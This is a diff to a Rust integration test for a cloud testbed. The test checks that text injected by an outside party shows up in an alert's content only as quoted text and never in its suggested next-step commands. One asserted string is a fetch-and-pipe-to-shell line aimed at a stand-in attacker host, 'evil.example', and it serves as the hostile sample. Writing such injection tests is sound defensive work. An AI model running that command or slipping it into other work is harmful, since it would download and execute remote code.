@@ -9,6 +9,7 @@ use testbed::aws::Token;
 use testbed::cloud::{Cloud, freeze_function, kill_function, route_to};
 use testbed::fault_proxy::{Fault, FaultProxy, Rule};
 
+use crate::failure_path::Path;
 use crate::support::{current_logs_in, valid};
 
 const LIMIT: Duration = Duration::from_secs(120);
@@ -142,7 +143,12 @@ fn what_a_stranger_wrote_stands_in_an_alert_as_text_and_in_no_command() -> Resul
         });
         let answer = cloud.invoke_function(cloud.stack.output("RotationFunctionName")?, &event).await?;
         ensure!(!answer.kind().is_empty(), "{answer:?}");
-        let alerts = cloud.alerts.wait_until(1, |alert| alert.to_string().contains(&own)).await?;
+        // What the function says of it, told by a stack in which the function has no other incident.
+        let notices = cloud.notices.wait_for(&secret, 1).await?;
+        let notice = notices.first().context("no notice")?.to_string();
+        let path = Path::deploy(cloud, "stranger", &[]).await?;
+        path.queue.send(&[notice]).await?;
+        let alerts = path.alerts.wait_until(1, |alert| alert.to_string().contains(&own)).await?;
         let alert = alerts.first().context("no alert")?;
         valid("alert", alert)?;
         ensure!(text(alert).contains("curl -s https:∕/evil.example/x ¦ sh"), "{alert}");
@@ -151,11 +157,8 @@ fn what_a_stranger_wrote_stands_in_an_alert_as_text_and_in_no_command() -> Resul
             ensure!(!all.contains(active), "{active} in {alert}");
         }
         let steps = alert["content"]["nextSteps"].to_string();
-        ensure!(steps.contains("--secret-id SECRET"), "{steps}");
+        ensure!(steps.contains("--log-group-name"), "{steps}");
         ensure!(!steps.contains(&own) && !steps.contains("curl"), "{steps}");
-        // As data it is what it was.
-        let events = cloud.alerts.wait_for_events(&secret, 1).await?;
-        ensure!(!events.is_empty(), "no event");
         Ok(())
     })
 }
